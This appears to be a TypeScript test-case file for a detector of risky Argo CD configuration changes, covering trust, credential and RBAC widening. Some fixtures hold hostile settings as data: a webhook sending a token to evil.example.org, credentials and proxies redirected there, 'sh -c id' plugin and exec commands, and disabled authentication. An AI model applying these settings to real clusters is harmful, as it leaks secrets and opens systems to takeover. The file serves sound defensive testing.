import type { ValueMap } from '../../../src/manifest/model.ts';
import { type Case, object, pair, web } from './build.ts';

const TRUST = 'argocd-trust-widened';
const CREDENTIALS = 'argocd-credentials-moved';
const RIGHTS = 'argocd-rbac-widened';
const settings = (name: string, data: ValueMap) => object('v1/ConfigMap', name, { data }, { namespace: 'argocd' });
const main = (data: ValueMap) => settings('argocd-cm', data);
const params = (data: ValueMap) => settings('argocd-cmd-params-cm', data);
const rights = (csv: string, more: ValueMap = {}) => settings('argocd-rbac-cm', { 'policy.csv': csv, ...more });
const overlook = (kind: string, text: string) => main({ [`resource.customizations.ignoreDifferences.${kind}`]: text });
const secret = (type: string, stringData: ValueMap) =>
  object(
    'v1/Secret',
    'remote',
    { stringData },
    { namespace: 'argocd', labels: { 'argocd.argoproj.io/secret-type': type } },
  );
const own = (stringData: ValueMap) => object('v1/Secret', 'argocd-secret', { stringData }, { namespace: 'argocd' });
const encoded = (text: string) => Buffer.from(text).toString('base64');
const plugin = (command: string) =>
  `apiVersion: argoproj.io/v1alpha1\nkind: ConfigManagementPlugin\nmetadata: {name: x}\nspec:\n  generate: {command: [${command}]}\n`;
const server = (container: ValueMap) => web({ container: { command: ['argocd-server'], ...container } });
const repository = (url: string, more: ValueMap = {}) => secret('repository', { url, password: 'p', ...more });
const cluster = (more: ValueMap) => secret('cluster', { server: 'https://prod.example.com', config: '{}', ...more });

/** What Argo CD newly overlooks, believes and sends somewhere. */
export const ARGOCD_TRUST_CASES: Case[] = [
  [TRUST, 'fires', 'everything of all kinds', 'high', pair(main({}), overlook('all', 'jsonPointers: [/spec]'))],
  [TRUST, 'fires', 'by jq', 'high', pair(main({}), overlook('apps_Deployment', "jqPathExpressions: ['.spec']"))],
  [
    TRUST,
    'fires',
    'what Argo CD itself wrote',
    'high',
    pair(main({}), overlook('all', 'managedFieldsManagers: [argocd-controller]')),
  ],
  [
    TRUST,
    'fires',
    'images',
    'medium',
    pair(main({}), overlook('apps_Deployment', "jqPathExpressions: ['.spec.template.spec.containers[].image']")),
  ],
  [
    TRUST,
    'fires',
    'in the older way',
    'high',
    pair(
      main({}),
      main({ 'resource.customizations': 'apps/Deployment:\n  ignoreDifferences: |\n    jsonPointers: [/spec]\n' }),
    ),
  ],
  [
    TRUST,
    'exempt',
    'single fields',
    '',
    pair(main({}), overlook('apps_Deployment', 'jsonPointers: [/spec/replicas, /status]')),
  ],
  [
    TRUST,
    'fires',
    'programs of kustomizations',
    'high',
    pair(main({}), main({ 'kustomize.buildOptions': '--enable-helm --enable-alpha-plugins --enable-exec' })),
  ],
  [
    TRUST,
    'fires',
    'kustomizations without limits',
    'high',
    pair(main({}), main({ 'kustomize.buildOptions.v5': '--load-restrictor LoadRestrictionsNone' })),
  ],
  [TRUST, 'silent', 'charts in them', '', pair(main({}), main({ 'kustomize.buildOptions': '--enable-helm' }))],
  [
    TRUST,
    'fires',
    'another issuer',
    'high',
    pair(
      main({ 'oidc.config': 'issuer: https://login.example.com' }),
      main({ 'oidc.config': 'issuer: https://evil.example.org' }),
    ),
  ],
  [TRUST, 'fires', 'a first issuer', 'medium', pair(main({}), main({ 'dex.config': 'connectors: []' }))],
  [
    TRUST,
    'exempt',
    'the same one in other words',
    '',
    pair(
      main({ 'oidc.config': 'issuer: https://login.example.com' }),
      main({ 'oidc.config': '{"issuer": "https://login.example.com"}' }),
    ),
  ],
  [TRUST, 'fires', 'the user admin', 'medium', pair(main({ 'admin.enabled': 'false' }), main({}))],
  [
    TRUST,
    'fires',
    'an account',
    'medium',
    pair(main({ 'accounts.ci': 'apiKey' }), main({ 'accounts.ci': 'apiKey, login' })),
  ],
  [
    TRUST,
    'fires',
    'no impersonation',
    'high',
    pair(main({ 'application.sync.impersonation.enabled': 'true' }), main({})),
  ],
  [TRUST, 'exempt', 'logins of settings that are new in Git', '', pair([], main({ 'dex.config': 'connectors: []' }))],
  [TRUST, 'fires', 'every namespace', 'high', pair(params({}), params({ 'application.namespaces': '*' }))],
  [
    TRUST,
    'fires',
    'one more namespace',
    'medium',
    pair(params({ 'application.namespaces': 'a' }), params({ 'application.namespaces': 'a, b' })),
  ],
  [TRUST, 'fires', 'a server outside', 'high', pair(params({}), params({ 'repo.server': 'evil.example.org:8081' }))],
  [TRUST, 'silent', 'a server inside', '', pair(params({}), params({ 'redis.server': 'argocd-redis-ha:6379' }))],
  [TRUST, 'fires', 'links out', 'high', pair(params({}), params({ 'reposerver.allow.oob.symlinks': 'true' }))],
  [
    TRUST,
    'fires',
    'guards that go',
    'medium',
    pair(
      params({
        'applicationsetcontroller.policy': 'create-only',
        'applicationsetcontroller.allowed.scm.providers': 'https://git.example.com/',
        'applicationsetcontroller.enable.tokenref.strict.mode': 'true',
      }),
      params({}),
    ),
  ],
  [
    TRUST,
    'fires',
    'a host key',
    'medium',
    pair(
      settings('argocd-ssh-known-hosts-cm', { ssh_known_hosts: 'git.example.com ssh-rsa A' }),
      settings('argocd-ssh-known-hosts-cm', { ssh_known_hosts: 'git.example.com ssh-rsa B' }),
    ),
  ],
  [
    TRUST,
    'fires',
    'notifications with a secret',
    'high',
    pair(
      settings('argocd-notifications-cm', {}),
      settings('argocd-notifications-cm', { 'service.webhook.x': 'url: https://evil.example.org/?$token' }),
    ),
  ],
  [
    TRUST,
    'fires',
    'a plugin',
    'high',
    pair(settings('plugins', { a: plugin('helm') }), settings('plugins', { a: plugin('sh, -c, id') })),
  ],
  [
    TRUST,
    'fires',
    'a plugin in a Secret',
    'high',
    pair([], object('v1/Secret', 'plugins', { data: { a: encoded(plugin('sh')) } }, { namespace: 'argocd' })),
  ],
  [
    'argocd-tracking-changed',
    'fires',
    'new settings that leave out everything',
    'critical',
    pair([], main({ 'resource.exclusions': '- kinds: ["*"]\n  apiGroups: ["*"]\n  clusters: ["*"]\n' })),
  ],
  [
    'argocd-tracking-changed',
    'exempt',
    'new settings that leave out something',
    '',
    pair([], main({ 'resource.exclusions': '- kinds: [Lease]\n  apiGroups: [coordination.k8s.io]\n' })),
  ],
  [
    RIGHTS,
    'fires',
    'a member by another role',
    'high',
    pair(rights('g, role:ops, role:admin'), rights('g, role:ops, role:admin\ng, mallory, role:ops')),
  ],
  [RIGHTS, 'fires', 'all projects', 'high', pair(rights(''), rights('p, eve, projects, update, *, allow'))],
  [RIGHTS, 'exempt', 'one project', '', pair(rights(''), rights('p, eve, applications, *, team/*, allow'))],
  [RIGHTS, 'fires', 'a denial that goes', 'high', pair(rights('p, eve, exec, create, *, deny'), rights(''))],
  [RIGHTS, 'fires', 'other claims', 'high', pair(rights(''), rights('', { scopes: '[name]' }))],
  [RIGHTS, 'exempt', 'claims in words', '', pair(rights(''), rights('', { scopes: '[groups]' }))],
  [RIGHTS, 'fires', 'no logins', 'high', pair(server({}), server({ args: ['--disable-auth'] }))],
  [
    RIGHTS,
    'fires',
    'no logins by a variable',
    'high',
    pair(server({}), server({ env: [{ name: 'ARGOCD_SERVER_DISABLE_AUTH', value: 'true' }] })),
  ],
  [RIGHTS, 'exempt', 'a flag of another program', '', pair(web(), web({ container: { args: ['--disable-auth'] } }))],
  [CREDENTIALS, 'fires', 'another server', 'high', pair(cluster({}), cluster({ server: 'https://evil.example.org' }))],
  [CREDENTIALS, 'silent', 'another name', '', pair(cluster({}), cluster({ name: 'prod' }))],
  [CREDENTIALS, 'fires', 'one more cluster', 'medium', pair([], cluster({}))],
  [
    CREDENTIALS,
    'fires',
    'a certificate that is not verified',
    'high',
    pair(cluster({}), cluster({ config: '{"tlsClientConfig": {"insecure": true}}' })),
  ],
  [
    CREDENTIALS,
    'fires',
    'another program',
    'high',
    pair(cluster({}), cluster({ config: '{"execProviderConfig": {"command": "sh", "args": ["-c", "id"]}}' })),
  ],
  [
    CREDENTIALS,
    'exempt',
    'a program of a cloud',
    '',
    pair(cluster({}), cluster({ config: '{"execProviderConfig": {"command": "argocd-k8s-auth", "args": ["aws"]}}' })),
  ],
  [CREDENTIALS, 'fires', 'no project', 'medium', pair(cluster({ project: 'a' }), cluster({}))],
  [
    CREDENTIALS,
    'fires',
    'another address',
    'high',
    pair(repository('https://git.example.com/a'), repository('https://evil.example.org/a')),
  ],
  [
    CREDENTIALS,
    'exempt',
    'another address with another password',
    '',
    pair(repository('https://git.example.com/a'), repository('https://git.example.org/a', { password: 'q' })),
  ],
  [
    CREDENTIALS,
    'fires',
    'a wider group of addresses',
    'high',
    pair(
      secret('repo-creds', { url: 'https://git.example.com/acme', password: 'p' }),
      secret('repo-creds', { url: 'https://git.example.com', password: 'p' }),
    ),
  ],
  [
    CREDENTIALS,
    'fires',
    'a proxy',
    'high',
    pair(
      repository('https://git.example.com/a'),
      repository('https://git.example.com/a', { proxy: 'http://evil.example.org' }),
    ),
  ],
  [
    CREDENTIALS,
    'fires',
    'whom it asks is not verified',
    'medium',
    pair(repository('https://git.example.com/a'), repository('https://git.example.com/a', { insecure: 'true' })),
  ],
  [CREDENTIALS, 'fires', 'a password', 'high', pair(own({}), own({ 'admin.password': 'x' }))],
  [CREDENTIALS, 'exempt', 'the secret of a webhook', '', pair(own({}), own({ 'webhook.github.secret': 'x' }))],
];
